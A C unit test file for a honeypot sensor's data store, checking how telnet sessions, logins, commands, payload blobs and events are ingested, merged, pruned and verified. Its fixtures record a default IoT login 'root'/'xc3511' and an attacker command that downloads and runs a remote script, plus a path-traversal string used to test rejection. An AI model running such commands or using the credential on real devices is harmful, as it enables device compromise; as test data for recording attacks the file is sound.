/*
 * The tables of sessions: rows in and out both ways, merging, retention, payload blobs, and that
 * no stored column holds an observed address that the collector has replaced.
 */
#include "fixture.h"

#include "os/digest.h"

#include <fcntl.h>

#define TEXT(s) {.data = (s), .len = sizeof(s) - 1}
#define HOUR (60 * CIVIL_US_PER_MINUTE)

static char path[FIXTURE_PATH_MAX];

static int setup(void **state)
{
	(void)state;
	fixture_path(path);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	fixture_remove(path);
	return 0;
}

static struct record_session make_session(int64_t time, uint64_t id)
{
	struct record_session row = {.time = time, .sensor = 1, .id = id, .duration_us = 1500000,
	    .src_lo = IP_V4_PREFIX | 0xcb007109, .sport = 40000, .dst_index = 3, .dport = 23,
	    .transport = 6, .protocol = TEXT("telnet"), .passive = 1, .handshake = 2, .bytes_in = 9,
	    .bytes_out = 100, .marks = 1, .syn_signature = 77, .request = TEXT("root"),
	    .payload = {.data = "\0\xff\x01root\r\n", .len = 9}, .template = 5, .logins = 1,
	    .commands = 1, .payloads = 1, .close = TEXT("client"), .country = {'J', 'P'},
	    .asn = 64500};

	return row;
}

static struct record_login make_login(int64_t time, uint64_t session, const char *user,
    const char *password)
{
	struct record_login row = {.time = time, .sensor = 1, .session = session,
	    .src_lo = IP_V4_PREFIX | (uint32_t)session, .dport = 23, .protocol = TEXT("telnet"),
	    .user = {.data = user, .len = (uint32_t)strlen(user)},
	    .password = {.data = password, .len = (uint32_t)strlen(password)},
	    .secret = TEXT("password"), .outcome = TEXT("refused"), .passive = 1,
	    .country = {'J', 'P'}, .asn = 64500};

	return row;
}

static struct record_command make_command(int64_t time, uint64_t session)
{
	struct record_command row = {.time = time, .sensor = 1, .session = session, .dport = 23,
	    .protocol = TEXT("telnet"), .text = TEXT("wget http://198.51.100.7/a; sh a"),
	    .urls = TEXT("http://198.51.100.7/a"), .country = {'J', 'P'}};

	return row;
}

static struct record_payload make_payload(int64_t time, const char *sha256)
{
	struct record_payload row = {.time = time, .sensor = 1, .session = 1, .dport = 9100,
	    .protocol = TEXT("printer"), .sha256 = {.data = sha256, .len = 64}, .size = 4,
	    .complete = 1, .kind = TEXT("print-job"), .country = {'J', 'P'}};

	return row;
}

static struct record_event make_event(int64_t time, uint64_t count)
{
	struct record_event row = {.time = time, .sensor = 1, .protocol = TEXT("mqtt"),
	    .event = TEXT("connect.anonymous"), .dport = 1883, .country = {'J', 'P'},
	    .count = count};

	return row;
}

#define PUT(ingest, table, row) \
	OK(store_ingest_rows(ingest, RECORD_TABLE_##table, &(row), 1, &err))

static const char payload_sha[] =
    "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"; /* of "test" */

static void put_one_of_each(struct store_ingest *ingest, int64_t time)
{
	struct record_session session = make_session(time, 1);
	struct record_login login = make_login(time + 1, 1, "root", "xc3511");
	struct record_command command = make_command(time + 2, 1);
	struct record_payload payload = make_payload(time + 3, payload_sha);
	struct record_event event = make_event(time, 4);

	PUT(ingest, session, session);
	PUT(ingest, login, login);
	PUT(ingest, command, command);
	PUT(ingest, payload, payload);
	PUT(ingest, event, event);
}

static void expect_one_of_each(struct store *store)
{
	fixture_expect(store,
	    "SELECT id, duration_us, ipText(src_hi, src_lo), sport, dst_index, dport, transport, "
	    "protocol, passive, handshake, bytes_in, bytes_out, marks, syn_signature, software, "
	    "request, hex(payload), template, logins, commands, payloads, close, country, asn, "
	    "date FROM session",
	    "1|1500000|203.0.113.9|40000|3|23|6|telnet|1|2|9|100|1|77||root|00FF01726F6F740D0A|5|1|"
	    "1|1|client|JP|64500|20727\n");
	fixture_expect(store,
	    "SELECT session, protocol, \"user\", password, secret, method, outcome, date FROM login",
	    "1|telnet|root|xc3511|password||refused|20727\n");
	fixture_expect(store, "SELECT text, urls, country FROM command",
	    "wget http://198.51.100.7/a; sh a|http://198.51.100.7/a|JP\n");
	fixture_expect(store, "SELECT substr(sha256, 1, 8), size, complete, kind FROM payload",
	    "9f86d081|4|1|print-job\n");
	fixture_expect(store, "SELECT protocol, event, dport, \"count\" FROM event",
	    "mqtt|connect.anonymous|1883|4\n");
}

static void rows_come_back(void **state)
{
	struct store *store = fixture_open(path, STORE_WRITE, "UTC");
	struct store_ingest *ingest = fixture_begin(store);
	struct record_sensor sensor = {0};
	struct record_port_quarter rollup = {0};

	(void)state;
	put_one_of_each(ingest, FIXTURE_TIME);
	FAILS(ST_USAGE, store_ingest_rows(ingest, RECORD_TABLE_sensor, &sensor, 1, &err));
	FAILS(ST_USAGE, store_ingest_rows(ingest, RECORD_TABLE_port_quarter, &rollup, 1, &err));
	fixture_expect(store, "SELECT count(*) FROM login", "0\n"); /* not before the commit */
	OK(store_ingest_commit(ingest, &err));
	expect_one_of_each(store);
	/* A person need not know that user is a word of SQL. */
	fixture_expect(store, "SELECT user, login.user FROM login", "root|root\n");
	store_close(store);
}

static void an_abort_leaves_nothing(void **state)
{
	struct store *store = fixture_open(path, STORE_WRITE, "UTC");
	struct store_ingest *ingest = fixture_begin(store);

	(void)state;
	put_one_of_each(ingest, FIXTURE_TIME);
	store_ingest_abort(ingest);
	fixture_expect(store,
	    "SELECT (SELECT count(*) FROM session) + (SELECT count(*) FROM login) + "
	    "(SELECT count(*) FROM event)",
	    "0\n");
	store_close(store);
}

/* What a crash leaves in the journal comes back once, bytes and texts included. */
static void a_journal_brings_them_back(void **state)
{
	const struct store_ingest_options options = {.sensor = 1, .name = "live", .journal = true};
	struct store_ingest *ingest = NULL;
	struct store *store = fixture_open(path, STORE_WRITE, "UTC");

	(void)state;
	OK(store_ingest_begin(store, &options, &ingest, &err));
	put_one_of_each(ingest, FIXTURE_TIME);
	store_ingest_abort(ingest);
	store_close(store);
	store = fixture_open(path, STORE_WRITE, "UTC");
	expect_one_of_each(store);
	store_close(store);
	store = fixture_open(path, STORE_WRITE, "UTC");
	expect_one_of_each(store);
	store_close(store);
}

static void merging_keeps_and_sorts(void **state)
{
	const struct store_compact_options options = {.before_day = INT32_MAX, .dirty_only = true,
	    .now_us = FIXTURE_TIME};
	struct store *store = fixture_open(path, STORE_WRITE, "UTC");
	struct store_compact_stats stats;

	(void)state;
	for (int i = 0; i < 3; i++) {
		struct store_ingest *ingest = fixture_begin(store);
		struct record_login late = make_login(FIXTURE_TIME + i * HOUR, 9, i ? "a" : "z",
		    "p");
		struct record_event event = make_event(FIXTURE_TIME, 1);

		PUT(ingest, login, late);
		PUT(ingest, event, event);
		OK(store_ingest_commit(ingest, &err));
	}
	OK(store_compact(store, &options, &stats, &err));
	assert_int_equal(stats.files_before, 6);
	assert_int_equal(stats.files_after, 2);
	fixture_expect(store, "SELECT \"user\", time - toDateTime('2026-10-01') FROM login",
	    "a|01:00:00\na|02:00:00\nz|00:00:00\n");
	fixture_expect(store, "SELECT sum(\"count\"), count(*) FROM event", "3|3\n");
	store_close(store);
}

static void note(void *arg, const char *line)
{
	struct buf *b = arg;

	buf_printf(b, "%s\n", line);
}

/* Large enough to stay as it is when a date has more rows with blobs than are sorted. */
#define MANY_SESSIONS 66000

static void put_sessions(struct store *store, uint64_t first, unsigned count)
{
	struct store_ingest *ingest = fixture_begin(store);

	for (unsigned i = 0; i < count; i++) {
		struct record_session row = make_session(FIXTURE_TIME + i, first + i);

		PUT(ingest, session, row);
	}
	OK(store_ingest_commit(ingest, &err));
}

static void a_large_segment_stays(void **state)
{
	const struct store_compact_options options = {.before_day = INT32_MAX, .now_us = 1};
	struct store *store = fixture_open(path, STORE_WRITE, "UTC");
	struct store_compact_stats stats;
	struct buf said = {0};

	(void)state;
	put_sessions(store, 1, MANY_SESSIONS);
	put_sessions(store, 100001, 10);
	put_sessions(store, 200001, 20);
	OK(store_compact(store, &options, &stats, &err));
	assert_int_equal(stats.files_before, 3);
	assert_int_equal(stats.files_after, 2);
	fixture_expect(store, "SELECT count(*), count(DISTINCT id), CAST(sum(id) AS BIGINT) FROM session",
	    "66030|66030|2183033265\n");
	/* Rows that come later go to the small one. */
	put_sessions(store, 300001, 5);
	OK(store_compact(store, &options, &stats, &err));
	assert_int_equal(stats.files_before, 3);
	assert_int_equal(stats.files_after, 2);
	fixture_expect(store, "SELECT count(*), count(DISTINCT id) FROM session",
	    "66035|66035\n");
	OK(store_verify(store, note, &said, &err));
	assert_string_equal(buf_text(&said), "");
	buf_fini(&said);
	store_close(store);
}

static void payloads_are_kept_once(void **state)
{
	struct store *store = fixture_open(path, STORE_WRITE, "UTC");
	char file[FIXTURE_PATH_MAX + 128];
	struct buf said = {0};
	struct stat first;
	struct stat second;
	int fd;

	(void)state;
	FAILS(ST_USAGE, store_payload_put(store, "abc", "test", 4, &err));
	FAILS(ST_USAGE, store_payload_put(store, "../../../../../../../../../../../../../../../"
	                                         "../../../../../../abc", "test", 4, &err));
	OK(store_payload_put(store, payload_sha, "test", 4, &err));
	(void)snprintf(file, sizeof(file), "%s/payload/9f/%s.zst", path, payload_sha);
	assert_int_equal(stat(file, &first), 0);
	assert_int_equal(first.st_mode & 0777, 0400);
	OK(store_payload_put(store, payload_sha, "test", 4, &err));
	assert_int_equal(stat(file, &second), 0);
	assert_int_equal(first.st_ino, second.st_ino);
	assert_int_equal(store_verify(store, note, &said, NULL), 0);
	/* Another content under the same name is found, and so is what is no blob at all. */
	assert_int_equal(chmod(file, 0600), 0);
	fd = open(file, O_WRONLY | O_TRUNC);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, "x", 1), 1);
	(void)close(fd);
	(void)snprintf(file, sizeof(file), "%s/payload/9f/.tmp-1", path);
	fd = open(file, O_WRONLY | O_CREAT, 0600);
	assert_true(fd >= 0);
	(void)close(fd);
	assert_int_equal(store_verify(store, note, &said, NULL), 2);
	assert_non_null(strstr(buf_text(&said), "it is damaged"));
	assert_non_null(strstr(buf_text(&said), ".tmp-1: not in the catalogue"));
	buf_fini(&said);
	store_close(store);
	/* The next writer sweeps the left-over and leaves the blob. */
	store = fixture_open(path, STORE_WRITE, NULL);
	assert_int_not_equal(stat(file, &first), 0);
	store_close(store);
}

static void retention_is_by_class(void **state)
{
	struct store *store = fixture_open(path, STORE_WRITE, "UTC");
	struct store_prune_options options = {.flow_before = INT32_MIN, .all_before = INT32_MIN,
	    .session_before = FIXTURE_DAY + 1, .payload_before = FIXTURE_DAY + 10000,
	    .now_us = FIXTURE_TIME, .dry_run = true};
	struct record_flow flow = fixture_flow(FIXTURE_TIME, 1);
	struct buf said = {0};
	unsigned days = 0;

	(void)state;
	for (int day = 0; day < 2; day++) {
		struct store_ingest *ingest = fixture_begin(store);

		put_one_of_each(ingest, FIXTURE_TIME + day * CIVIL_US_PER_DAY);
		PUT(ingest, flow, flow);
		OK(store_ingest_commit(ingest, &err));
	}
	OK(store_payload_put(store, payload_sha, "test", 4, &err));
	OK(store_prune(store, &options, note, &said, &err));
	assert_non_null(strstr(buf_text(&said), "would remove"));
	fixture_expect(store, "SELECT count(*) FROM login", "2\n");
	options.dry_run = false;
	/* The blob is mentioned by a row of the second day, which is kept. */
	options.payload_before = FIXTURE_DAY + 1;
	OK(store_prune(store, &options, note, &said, &err));
	fixture_expect(store,
	    "SELECT (SELECT count(*) FROM session), (SELECT count(*) FROM login), "
	    "(SELECT count(*) FROM command), (SELECT count(*) FROM payload), "
	    "(SELECT count(*) FROM event), (SELECT count(*) FROM flow)",
	    "1|1|1|1|2|2\n");
	OK(store_days_dropped(store, RECORD_TABLE_login, FIXTURE_DAY - 9, FIXTURE_DAY + 9, &days,
	    &err));
	assert_int_equal(days, 1);
	OK(store_days_dropped(store, RECORD_TABLE_login, FIXTURE_DAY + 1, FIXTURE_DAY + 9, &days,
	    &err));
	assert_int_equal(days, 0);
	OK(store_days_dropped(store, RECORD_TABLE_event, FIXTURE_DAY - 9, FIXTURE_DAY + 9, &days,
	    &err));
	assert_int_equal(days, 0);
	assert_int_equal(store_verify(store, note, &said, NULL), 0);
	buf_reset(&said);
	options.payload_before = FIXTURE_DAY + 10000; /* nothing is that late */
	OK(store_prune(store, &options, note, &said, &err));
	assert_non_null(strstr(buf_text(&said), "payload older than kept"));
	OK(store_prune(store, &options, note, &said, &err));
	buf_fini(&said);
	store_close(store);
}

/* A store that schema 1 wrote has no such tables; asking them gives nothing, not an error. */
static void an_older_store_opens(void **state)
{
	struct store *store = fixture_open(path, STORE_WRITE, "UTC");
	struct record_flow flow = fixture_flow(FIXTURE_TIME, 1);
	char command[FIXTURE_PATH_MAX + 128];

	(void)state;
	fixture_ingest(store, &flow, 1);
	store_close(store);
	(void)snprintf(command, sizeof(command),
	    "sqlite3 '%s/catalogue.db' \"UPDATE meta SET value = 1 WHERE key = 'schema'; "
	    "UPDATE segment SET schema = 1\"", path);
	if (system(command) != 0) {
		print_message("no sqlite3 program here\n");
		skip();
	}
	store = fixture_open(path, STORE_READ, NULL);
	fixture_expect(store, "SELECT count(*) FROM flow", "1\n");
	fixture_expect(store, "SELECT count(*), coalesce(max(\"user\"), '') FROM login", "0|\n");
	store_close(store);
	store = fixture_open(path, STORE_WRITE, NULL);
	struct store_ingest *ingest = fixture_begin(store);

	put_one_of_each(ingest, FIXTURE_TIME);
	OK(store_ingest_commit(ingest, &err));
	expect_one_of_each(store);
	store_close(store);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(rows_come_back, setup, teardown),
		cmocka_unit_test_setup_teardown(an_abort_leaves_nothing, setup, teardown),
		cmocka_unit_test_setup_teardown(a_journal_brings_them_back, setup, teardown),
		cmocka_unit_test_setup_teardown(merging_keeps_and_sorts, setup, teardown),
		cmocka_unit_test_setup_teardown(a_large_segment_stays, setup, teardown),
		cmocka_unit_test_setup_teardown(payloads_are_kept_once, setup, teardown),
		cmocka_unit_test_setup_teardown(retention_is_by_class, setup, teardown),
		cmocka_unit_test_setup_teardown(an_older_store_opens, setup, teardown),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
